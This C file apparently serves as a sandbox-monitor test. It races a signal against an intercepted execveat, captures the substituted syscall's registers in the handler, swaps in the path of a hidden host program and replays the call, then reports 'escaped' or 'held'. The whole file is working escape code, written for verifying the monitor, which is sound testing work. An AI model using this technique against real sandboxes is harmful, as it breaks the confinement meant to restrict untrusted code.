// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Using a call that the monitor has put in the place of another one (an exec of what the view has changed) later, and for
 * something else.
 *
 *	pass CHANGED HIDDEN
 *
 * CHANGED is a program that the view has made, HIDDEN one of the host's that it has removed.  A child executes CHANGED, and a
 * signal comes meanwhile, so that a handler runs before the call in its place is made.  The handler finds that one in the
 * registers, and does not return to it.  After another call of its own the child makes it as it was, but where its empty
 * path was, the path of HIDDEN stands now.  Prints "stale: escaped" if HIDDEN is executed, and "stale: held" if not.
 * Where the handler returns CHANGED must be executed: then it prints "returned: held".
 */
#include "exploit.h"

#include <pthread.h>
#include <setjmp.h>
#include <sys/stat.h>
#include <ucontext.h>

#define TRIES 2000
#define RETURNS 300
#define HELD 3    /* exit statuses of the child: the program CHANGED has 42, HIDDEN 7 */

static sigjmp_buf begin;
static greg_t seen[NGREG];
static volatile bool caught, ready;
static pthread_t victim;
static int delay, passed;
static bool returns;

static void handler(int sig, siginfo_t *info, void *context)
{
	const greg_t *regs = ((ucontext_t *)context)->uc_mcontext.gregs;

	(void)sig;
	(void)info;
	if (regs[REG_RAX] == SYS_execveat) {
		memcpy(seen, regs, sizeof(seen));
		caught = true;
	}
	if (returns) {
		umask(022); /* ends the pass */
		return;
	}
	siglongjmp(begin, 1);
}

static void *interrupt(void *unused)
{
	while (!ready)
		;
	for (volatile int i = 0; i < delay; i++)
		;
	pthread_kill(victim, SIGUSR1);
	return unused;
}

static void child(const char *changed, const char *hidden)
{
	static char path[4096];
	char *argv[] = { path, NULL }, *envp[] = { NULL };
	struct sigaction act = { .sa_sigaction = handler, .sa_flags = SA_SIGINFO };
	pthread_t thread;

	sigaction(SIGUSR1, &act, NULL);
	victim = pthread_self();
	strcpy(path, changed);
	if (sigsetjmp(begin, 1) == 0) {
		pthread_create(&thread, NULL, interrupt, NULL);
		ready = true;
		execve(path, argv, envp);
		if (returns && errno != EINTR)
			_exit(HELD);
	}
	if (!caught)
		_exit(42);
	umask(022);
	strcpy((char *)seen[REG_RSI], hidden);
	syscall(SYS_execveat, seen[REG_RDI], seen[REG_RSI], seen[REG_RDX], seen[REG_R10], seen[REG_R8], seen[REG_R9]);
	_exit(HELD);
}

/* One child; its wait status. */
static int run(char **argv, int i)
{
	int status = -1;
	pid_t pid = fork();

	delay = i * 997 % 200000;
	if (pid == 0)
		child(argv[1], argv[2]);
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return -1;
	return status;
}

/* Has CHANGED been executed, or killed by the signal that came when it was? */
static bool is_done(int status)
{
	return WIFSIGNALED(status) ? WTERMSIG(status) == SIGUSR1 : WEXITSTATUS(status) == 42;
}

int main(int argc, char **argv)
{
	int status = 0;
	bool missed = true; /* it came before the exec was looked at, or after it */

	if (argc != 3)
		return 2;
	for (int i = 0; i < TRIES && missed; i++) {
		status = run(argv, i);
		missed = is_done(status);
	}
	if (!WIFEXITED(status) || (WEXITSTATUS(status) != 7 && WEXITSTATUS(status) != HELD))
		printf("stale: failed, %#x\n", status);
	else
		printf("stale: %s\n", WEXITSTATUS(status) == 7 ? "escaped" : "held");
	returns = true;
	for (int i = 0; i < RETURNS && is_done(status = run(argv, i)); i++)
		passed++;
	if (passed == RETURNS)
		printf("returned: held\n");
	else
		printf("returned: failed, %#x\n", status);
	return 0;
}
